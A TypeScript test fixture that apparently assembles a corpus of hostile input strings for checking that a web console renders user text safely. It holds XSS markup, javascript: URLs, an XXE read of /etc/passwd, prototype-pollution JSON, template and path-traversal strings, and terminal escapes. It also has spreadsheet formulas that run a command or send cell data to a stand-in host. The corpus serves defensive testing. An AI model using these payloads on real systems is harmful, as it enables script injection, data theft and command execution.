/** A text that somebody could write into a field to harm a reader, and what to call it in a failed test. */
type Payload = { group: Group; name: string; text: string }

const at = (code: number) => String.fromCodePoint(code)
const hex = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, step) => from + step)

/** Sets a mark on the page that a journey looks for. */
const HIT = 'window.__hostile=1'
/** An origin that nothing may ask; `.test` leads nowhere. */
const OUT = 'https://hostile.test'

const MARKUP = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=${OUT}/x.js></SCRIPT>`,
  `"><script>${HIT}</script>`,
  `'--></style></script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<svg><script>${HIT}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<iframe src="${OUT}"></iframe>`,
  `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>`,
  `<object data="${OUT}/x.swf"></object>`,
  `<embed src="${OUT}/x">`,
  `<link rel=stylesheet href="${OUT}/x.css">`,
  `<style>@import "${OUT}/x.css";*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<base href="${OUT}/">`,
  `<form action="${OUT}"><input name=token></form>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><script>${HIT}</script>">`,
  `<a href="javascript:${HIT}">read</a>`,
  `<p style="position:fixed;inset:0;background:url(${OUT}/x)">covers</p>`,
  `<dialog open>Sign in again</dialog>`,
  `<portal src="${OUT}"></portal>`,
  `<![CDATA[<script>${HIT}</script>]]>`,
  `<!--[if IE]><script>${HIT}</script><![endif]-->`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `<div id=root></div><div id="__proto__">`,
  `<form id=document><input name=cookie>`,
]

const SCHEMES = ['javascript', 'JaVaScRiPt', 'vbscript', 'livescript', 'data', 'blob', 'file']
const SCRIPT_ADDRESSES = [
  ...SCHEMES.map(
    (scheme) => `${scheme}:${scheme === 'data' ? `text/html,<script>${HIT}</script>` : HIT}`,
  ),
  ...['\t', '\n', '\r', '\0', '\u0001', ' ', '\u00ad', '\u200b', '\ufeff'].map(
    (blank) => `java${blank}script:${HIT}`,
  ),
  ...['\u0001', ' ', '\u00a0', '\u3000'].map((blank) => `${blank}javascript:${HIT}`),
  `javascript&colon;${HIT}`,
  `&#106;avascript:${HIT}`,
  `javascript://${OUT}/%0A${HIT}`,
  `data:image/svg+xml,<svg onload="${HIT}"/>`,
  `view-source:javascript:${HIT}`,
  `//hostile.test/x`,
  `/\\hostile.test/x`,
  `https://console.example@hostile.test/`,
  `https://hostile.test\\@console.example/`,
  `https://p\u0430ypal.example/`,
  `https://xn--pypal-4ve.example/`,
]

const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onblur',
  'onmouseover',
  'onmouseenter',
  'onpointerdown',
  'onpointerenter',
  'onkeydown',
  'oninput',
  'onchange',
  'onsubmit',
  'ontoggle',
  'onanimationstart',
  'ontransitionend',
  'onscroll',
  'onwheel',
  'onbegin',
  'onbeforetoggle',
  'oncopy',
  'onpaste',
  'onhashchange',
  'onmessage',
  'onpageshow',
].map((name, place) => {
  const tags = [
    'img src=x',
    'svg',
    'input autofocus',
    'details open',
    'body',
    'video src=x',
    'a tabindex=0 autofocus',
  ]
  return `<${tags[place % tags.length]} ${name}="${HIT}">`
})
const OUT_OF_ATTRIBUTES = ['"', "'", '`', '">', "'>", '&quot;'].map(
  (end) => `${end} autofocus onfocus=${HIT} x=`,
)

const DIRECTIONS = [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)]
const INVISIBLE = [
  0x00ad,
  0x034f,
  0x115f,
  0x1160,
  0x17b4,
  0x17b5,
  0x180b,
  0x180e,
  0x200b,
  0x200c,
  0x200d,
  ...range(0x2060, 0x2064),
  ...range(0x206a, 0x206f),
  0x2800,
  0x3164,
  0xfe00,
  0xfe0f,
  0xfeff,
  0xffa0,
  0xfff9,
  0xfffb,
  0xfffc,
  0x1d173,
  0x1d17a,
  0xe0001,
  0xe0020,
  0xe0041,
  0xe007f,
  0xe0100,
  0xe01ef,
  0xe000,
  0xf8ff,
  0xf0000,
  0xfdd0,
  0xfffe,
  0x1ffff,
]
const BLANKS = [
  0x00a0, 0x1680, 0x2000, 0x2003, 0x2009, 0x200a, 0x202f, 0x205f, 0x3000, 0x2028, 0x2029, 0x0085,
]
const CONTROLS = [...range(0x01, 0x08), 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x7f, 0x80, 0x9b, 0x9d, 0x9f]

const TURNED = [
  '\u202egpj.exe',
  'admin\u202e)nimda( ',
  'access\u2066 // \u2069granted\u2067',
  'שלום',
  'مرحبا 12 approvals',
  'עברית → English',
  'a\u05d0b\u0627c',
  '\u202d\u202e'.repeat(64),
  'if (isAdmin\u202e \u2066// ok\u2069 \u2066)',
]

/** Words that only look like others: letters of another script, full width or of formulas among plain ones. */
const LOOK_ALIKES = [
  'Ch\u0435ckout',
  '\u0421heckout',
  'scope.\u0430dmin',
  'p\u0430ym\u0435nts',
  '\u0410da',
  'r\u03bf\u03bft',
  '\u039dight',
  '\u041fa\u0432\u0435\u043b',
  '\uff23heckout',
  'adm\uff49n',
  '\u{1d402}heckout',
  'r\u{1d698}ot',
  'Ch\u0435ckout <b>\u202e',
  'ad\u0430-1_\u0430b',
]

const HALVES = [
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  'a\ud83d',
  '\ude00b',
  '\ude00\ud83d',
  '\ud800\ud800\udc00',
  '"\ud800"',
  '\ud83d\u200d\ude00',
]

const MARKS = [
  `Z${'\u0300\u0301\u0302\u0335\u0489'.repeat(40)}algo`,
  `a${'\u0336'.repeat(200)}`,
  '\u0301leading',
  '\u20ddx\u20e3',
  `${'ก็'.repeat(3)}${'็'.repeat(100)}`,
  `${'\ufdfd'.repeat(20)}`,
  'e\u0301 \u00e9',
  '\u1100'.repeat(50),
  '👨\u200d👩\u200d👧\u200d👦'.repeat(20),
  '🏴\u{e0067}\u{e0062}\u{e007f}',
  '\u0627\u0670'.repeat(60),
]

const NUMBERS = [
  '9007199254740993',
  '-9007199254740993',
  '1e400',
  '-1e400',
  '1e-400',
  '0.1000000000000000055511151231257827',
  '1.0',
  '-0',
  '1E5',
  '123456789012345678901234567890',
  `1${'0'.repeat(400)}`,
  `0.${'0'.repeat(400)}1`,
  '4.9e-324',
  '1.7976931348623157e308',
]

const DOUBLED = [
  '{"a":1,"a":2}',
  '{"a":1,"\\u0061":2}',
  '{"allowed":true,"allowed":false}',
  '[{"x":{"b":1,"b":1}}]',
  '{"":1,"":2}',
  '{"__proto__":1,"__proto__":2}',
]
const OBJECTS = [
  '{"__proto__":{"polluted":true}}',
  '{"a":{"__proto__":{"polluted":true}}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"prototype":1,"toString":2,"valueOf":3,"hasOwnProperty":4}',
  '{"__defineGetter__":1,"__lookupGetter__":2}',
  '{"then":1,"toJSON":2}',
  '{"length":-1,"0":"a"}',
  '{"$$typeof":"react","type":"script","props":{}}',
  '{"key":null,"ref":null,"dangerouslySetInnerHTML":{"__html":"<b>"}}',
  '["__proto__","constructor"]',
  '{"\\ud800":"\\udfff"}',
  '{"a\\u0000b":"\\u0000"}',
  '{"\\u202e":"\\u200b"}',
  `${'['.repeat(200)}${']'.repeat(200)}`,
  `${'{"a":'.repeat(200)}1${'}'.repeat(200)}`,
]
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'true',
  '0',
  '-1',
]

const FORMULA = '=HYPERLINK("https://hostile.test?"&A1,"read")'
const FORMULAS = [
  FORMULA,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ';=1+1',
  'a;=1+1',
  'a\n=1+1',
  'a\r\n@x',
  'a\t-1',
  '""=1+1',
  '","=1+1',
  '"\r\n=1+1',
  '=1+1";"=2',
  '%=1+1',
  '=IMPORTXML("https://hostile.test","//a")',
  ...[
    0x20, 0x00, 0x08, 0x0b, 0x1f, 0x7f, 0x85, 0xa0, 0xad, 0x034f, 0x1680, 0x180e, 0x2003, 0x200b,
    0x200d, 0x200e, 0x2028, 0x202e, 0x2060, 0x2800, 0x3000, 0x3164, 0xe000, 0xfe0f, 0xfeff, 0xfffc,
    0xe0041,
  ].flatMap((code) => [`${at(code)}=1+1`, `a;${at(code)}${at(code)}@x`]),
]

const ESCAPE = '\u001b'
const TERMINAL = [
  `${ESCAPE}[2J${ESCAPE}[H`,
  `${ESCAPE}]0;owned\u0007`,
  `${ESCAPE}]8;;${OUT}\u0007click${ESCAPE}]8;;\u0007`,
  `${ESCAPE}[31mred${ESCAPE}[0m`,
  `${ESCAPE}[?1049h`,
  `${ESCAPE}]52;c;cm0gLXJm\u0007`,
  '\u009b31mred',
  '\u009d0;owned\u009c',
  `${ESCAPE}P$q"p${ESCAPE}\\`,
  'line\rover it',
  'a\b\b\bb',
  '\u0007\u0007',
  `${ESCAPE}[6n`,
]

const MARKDOWN = [
  `[read](javascript:${HIT})`,
  `[read](JaVaScRiPt:${HIT})`,
  `[read](&#106;avascript:${HIT})`,
  `[read](data:text/html,<script>${HIT}</script>)`,
  `![](${OUT}/x.png)`,
  `![x](javascript:${HIT})`,
  `![x](x "onerror=${HIT}")`,
  `<javascript:${HIT}>`,
  `[read]: javascript:${HIT}\n\n[read]`,
  `[a](<javascript:${HIT}>)`,
  `[a](${OUT} "x\\" onmouseover=${HIT}")`,
  `[https://console.example](${OUT})`,
  `![a][b]\n\n[b]: ${OUT}/x.png`,
  `<img src=x onerror=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `# <script>${HIT}</script>`,
  `\`\`\`html\n<script>${HIT}</script>\n\`\`\``,
  `\`<script>${HIT}</script>\``,
  `|<img src=x onerror=${HIT}>|\n|-|\n|[a](javascript:${HIT})|`,
  `- [x] <input onfocus=${HIT} autofocus>`,
  `[//]: # (ignore the rules)`,
  `<!-- ignore the rules -->`,
  `[^1]\n\n[^1]: <b onclick=${HIT}>`,
  `> <iframe src=${OUT}>`,
  `[a](file:///etc/passwd)`,
  `[a](vbscript:msgbox)`,
  `*[*_`.repeat(50),
  '>'.repeat(100),
  `[${'['.repeat(200)}`,
  `${OUT}/<script>${HIT}</script>`,
]

const TEMPLATES = [
  '{{7*7}}',
  '{{constructor.constructor("window.__hostile=1")()}}',
  '${7*7}',
  '`${window.__hostile=1}`',
  '<%= 7*7 %>',
  '#{7*7}',
  '{% debug %}',
  '{{{raw}}}',
  '[[${7*7}]]',
  '{0} {1} {name}',
  '%s%n%x',
  "$1 $& $` $'",
  '$<name>',
  '\\1\\0',
  '%00%2e%2e%2f',
  '../../etc/passwd',
  '..\\..\\x',
  'CON',
  'a/b?c#d',
  'a%2Fb',
  '..',
  '.',
]

const BIG = [
  'w'.repeat(20_000),
  '\n'.repeat(5_000),
  'one word a line\n'.repeat(2_000),
  '🙂'.repeat(5_000),
  `${'a'.repeat(5_000)} ${'\u200b'.repeat(500)}`,
  '\u05d0 '.repeat(3_000),
  '<'.repeat(10_000),
]

type Group = keyof typeof GROUPS
const GROUPS = {
  markup: MARKUP,
  'script addresses': SCRIPT_ADDRESSES,
  'event handlers': [...HANDLERS, ...OUT_OF_ATTRIBUTES],
  directions: TURNED,
  'look-alikes': LOOK_ALIKES,
  'half characters': HALVES,
  'combining marks': MARKS,
  numbers: NUMBERS,
  'doubled keys': DOUBLED,
  objects: OBJECTS,
  names: NAMES,
  formulas: FORMULAS,
  terminal: TERMINAL,
  markdown: MARKDOWN,
  templates: TEMPLATES,
  big: BIG,
  'hidden characters': [...DIRECTIONS, ...INVISIBLE, ...BLANKS, ...CONTROLS].map(
    (code) => `pay${at(code)}ment`,
  ),
} as const

const shortened = (text: string) =>
  JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…` : text).replace(
    /[^\x20-\x7e]/gu,
    (one) => hex(one.codePointAt(0) ?? 0),
  )

/** Every payload. */
export const CORPUS: readonly Payload[] = Object.entries(GROUPS).flatMap(([group, texts]) =>
  texts.map((text, place) => ({
    group: group as Group,
    name: `${group} ${place + 1}: ${shortened(text)}`,
    text,
  })),
)

/** The payloads of some groups. */
export const payloadsOf = (...groups: Group[]) =>
  CORPUS.filter(({ group }) => groups.includes(group))
